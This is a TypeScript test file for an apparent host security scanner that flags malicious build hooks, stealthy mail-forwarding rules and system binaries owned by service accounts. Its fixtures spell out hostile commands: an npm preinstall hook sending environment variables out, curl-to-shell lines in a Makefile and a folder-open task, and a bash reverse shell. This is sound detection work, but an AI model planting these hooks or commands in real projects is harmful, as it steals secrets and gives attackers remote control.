import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { buildFiles } from '../../source/checks/build-files.ts';
import { mailRules } from '../../source/checks/mail-rules.ts';
import { worldWritable } from '../../source/checks/world-writable.ts';
import { buildCommands } from '../../source/parsers/build-commands.ts';
import { byPath } from '../support/by-path.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { sweep } from '../support/sweep-host.ts';

const ask = (machine: Machine) => byPath(sweep(buildFiles, memoryHost(machine)));

describe('commands in files of projects', () => {
	test.each<[string, string]>([
		['/srv/api/package.json', '{"scripts":{"preinstall":"node -e \\"require(\'https\').get(\'https://x.example/?e=\'+Buffer.from(JSON.stringify(process.env)).toString(\'hex\'))\\""}}'],
		['/home/ann/src/Makefile', '_ := $(shell (curl -s http://203.0.113.7/mk | sh) >/dev/null 2>&1 &)\nall:\n\tcc main.c\n'],
		['/home/ann/src/.vscode/tasks.json', '{"tasks":[{"type":"shell","command":"curl -s https://load.example/l | bash","runOptions":{"runOn":"folderOpen"}}]}'],
		['/srv/site/composer.json', '{"scripts":{"post-install-cmd":["bash -i >& /dev/tcp/203.0.113.7/443 0>&1"]}}'],
	])('%s', (path, text) => {
		expect(ask({ [path]: text })).toEqual([`medium ${path}`]);
	});

	test('what projects do all day is nothing', () => {
		expect(
			ask({
				'/srv/api/package.json': '{"scripts":{"build":"tsc","postinstall":"husky install","lint":"eslint .","get":"curl -sSf https://install.example/x.sh | sh"}}',
				'/home/ann/src/Makefile': 'tools:\n\tcurl -sSfL https://raw.example.com/install.sh | sh -s -- -b bin\nV := $(shell git describe)\n',
				'/home/ann/src/.vscode/tasks.json': '{"tasks":[{"command":"npm run watch","runOptions":{"runOn":"folderOpen"}}]}',
				'/srv/api/node_modules/x/package.json': '{"scripts":{"preinstall":"curl http://203.0.113.7/x | sh"}}',
				'/srv/x/tasks.json': '{"tasks":[{"command":"curl http://203.0.113.7/x | sh"}]}',
				'/srv/y/package.json': '{"scripts":[}',
			}),
		).toEqual([]);
	});

	test('any bytes hold some commands or none', () => {
		fc.assert(fc.property(fc.constantFrom('package.json', 'tasks.json', 'Makefile'), fc.oneof(fc.string(), fc.json()), (name, text) => {
			expect(buildCommands(name, text).length).toBeLessThanOrEqual(200);
		}));
	});
});

test('letters that a rule sends away and hides, and letters that are only sent on', () => {
	const rule = (more: string) => `require ["copy","imap4flags"];\nif header :contains "subject" "IBAN" { redirect :copy "j.archiv@tutamail.com"; ${more} }\n`;
	const told = (machine: Machine) => byPath(sweep(mailRules, memoryHost(machine)));
	expect(told({ '/var/vmail/a/.dovecot.sieve': rule('setflag "\\\\Seen"; fileinto "RSS Feeds";'), '/home/ann/.dovecot.sieve': rule('keep;'), '/home/bob/x.sieve': 'redirect "bob@work.example";\n', '/home/eve/y.sieve': '# redirect "x@gmail.com"; discard;\n' })).toEqual(['low /home/ann/.dovecot.sieve', 'high /var/vmail/a/.dovecot.sieve']);
});

test('a program of the system that belongs to an account of a service', () => {
	const passwd = 'root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n';
	expect(byPath(sweep(worldWritable, memoryHost({ '/etc/passwd': passwd, '/usr/sbin/cron': { mode: 0o755, uid: 33, content: '\x7fELF' }, '/usr/bin/at': { mode: 0o6755, uid: 1, content: '\x7fELF' }, '/usr/bin/ls': { mode: 0o755, content: '\x7fELF' }, '/usr/local/bin/own': { mode: 0o755, uid: 33, content: '' } })))).toEqual(['high /usr/sbin/cron']);
});
